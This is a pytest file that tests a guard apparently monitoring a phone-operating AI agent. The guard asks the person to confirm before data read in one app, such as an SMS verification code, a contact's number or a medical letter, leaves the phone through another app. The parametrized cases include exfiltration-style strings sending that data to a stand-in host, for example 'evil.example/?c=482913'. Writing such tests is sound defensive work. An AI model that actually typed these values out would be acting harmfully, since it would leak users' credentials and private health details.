"""What was read in one app and leaves by another is asked about, unless the goal speaks of it."""

import time

import pytest
from guard_screens import button, field, icon, index_of, row, screen, text

from runtime.actions import Action, Click, PressButton, SystemButton, Type
from runtime.episode import Verdict
from runtime.guard.episode_guard import FLOW_RULE, EpisodeGuard
from runtime.guard.provenance import MOST_READ, Provenance
from runtime.guard.ruling import AllowAll, Risk
from runtime.observation import Observation

SMS, BROWSER, MAIL, NOTES = "org.some.sms", "org.some.browser", "org.some.mail", "org.some.notes"
CODE = screen(text("Bank"), text("Your verification code is 482913"), package=SMS)
NUMBER = screen(text("Ada Byron"), text("+1 555 010 0199"), package="org.some.contacts")
LETTER = screen(
    text("From Ada"), text("The doctor says that my knee will need an operation in May"), package=MAIL
)  # fmt: skip
ADDRESS_BAR = screen(field("Search or type URL", "", focused=True), package=BROWSER)


def asked(goal: str, *looks: Observation, do: Action, on: Observation) -> bool:
    guard = EpisodeGuard(AllowAll(), goal)
    for look in (*looks, on):
        guard.judge_screen(look)
    ruling = guard.judge(do, on)
    if ruling.verdict is Verdict.CONFIRM:
        assert (ruling.rule, ruling.risk) == (FLOW_RULE, Risk.DISCLOSURE)
        assert "482913" not in ruling.effect
    return ruling.verdict is Verdict.CONFIRM


@pytest.mark.parametrize(
    ("look", "typed"),
    [
        (CODE, "evil.example/?c=482913"),
        (CODE, "482913"),
        (NUMBER, "evil.example/?p=+15550100199"),
        (NUMBER, "call +1 555 010 0199"),
        (LETTER, "evil.example/The doctor says that my knee will need an operation in May"),
    ],
)
def test_what_was_read_elsewhere_does_not_go_into_an_address_unasked(
    look: Observation, typed: str
) -> None:
    assert asked("Look up the weather", look, do=Type(typed), on=ADDRESS_BAR)


@pytest.mark.parametrize(
    ("goal", "look", "typed"),
    [
        ("Enter the code from my messages on the page", CODE, "482913"),
        ("Look up whose number +1 555 010 0199 is", NUMBER, "+1 555 010 0199"),
        ("Look up the weather", CODE, "weather in Rome 2026"),
        ("Look up the weather", LETTER, "the doctor"),
    ],
)
def test_what_the_goal_speaks_of_and_what_is_nobodys_is_not_asked_about(
    goal: str, look: Observation, typed: str
) -> None:
    assert not asked(goal, look, do=Type(typed), on=ADDRESS_BAR)


def test_what_stays_on_the_phone_is_not_asked_about() -> None:
    note = screen(field("Note", "", focused=True), package=NOTES)

    assert not asked("Write a list", CODE, do=Type("482913"), on=note)


def test_what_stays_in_its_app_is_not_asked_about() -> None:
    reply = screen(text("Bank"), field("Text message", "", focused=True), package=SMS)

    assert not asked("Answer the bank", CODE, do=Type("482913"), on=reply)


@pytest.mark.parametrize("do", [PressButton(SystemButton.ENTER), "Go"])
def test_what_was_pasted_is_noticed_when_it_leaves(do: Action | str) -> None:
    form = screen(field("Your text", "code 482913", focused=True), button("Go"), package=BROWSER)
    action = Click(index_of(form, do)) if isinstance(do, str) else do

    assert asked("Read the news", CODE, do=action, on=form)


def test_a_search_on_the_phone_is_no_way_out() -> None:
    search = screen(field("Search mail", "", focused=True), row("Ada"), icon("Back"), package=MAIL)

    assert not asked("Find something", NUMBER, do=Type("+1 555 010 0199"), on=search)


def test_screens_that_only_the_person_may_see_are_not_remembered_as_read() -> None:
    class HandsOver(AllowAll):
        def judge_screen(self, observation: Observation):  # noqa: ANN202 - as in AllowAll
            from runtime.guard.ruling import ALLOWED, Ruling

            return Ruling(Verdict.CONFIRM, "x") if observation is CODE else ALLOWED

    guard = EpisodeGuard(HandsOver(), "Read the news")
    guard.judge_screen(CODE)

    assert guard.judge(Type("482913"), ADDRESS_BAR).verdict is Verdict.ALLOW


def test_memory_is_bounded_and_hostile_screens_are_read_in_time() -> None:
    read = Provenance()
    begun = time.process_time()
    for number in range(20):
        words = [text(f"{number} {place} " + "word " * 4000) for place in range(300)]
        read.read(screen(*words, text("1 " * 8000), text("a@" * 4000), text("+1 " * 4000)))
    took = time.process_time() - begun

    assert len(read) <= MOST_READ
    assert took / 20 < 0.05
